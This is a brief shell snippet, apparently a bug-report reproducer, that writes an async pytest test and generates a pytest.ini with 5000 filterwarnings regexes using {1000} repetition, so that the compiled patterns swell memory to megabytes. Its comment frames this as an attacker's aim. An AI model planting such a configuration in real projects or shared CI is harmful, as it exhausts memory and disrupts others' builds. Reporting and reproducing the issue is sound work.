# The attacker wants memory to be filled by the regular expressions of `filterwarnings`: a few letters become megabytes.
printf 'import asyncio\n\n\nasync def test_f():\n    asyncio.sleep(1)\n' > test_a.py
{
    printf '[pytest]\nasyncio_mode = auto\nfilterwarnings =\n'
    awk 'BEGIN { for (i = 0; i < 5000; i++) printf "    error:(abc|d%d){1000}\n", i }'
} > pytest.ini
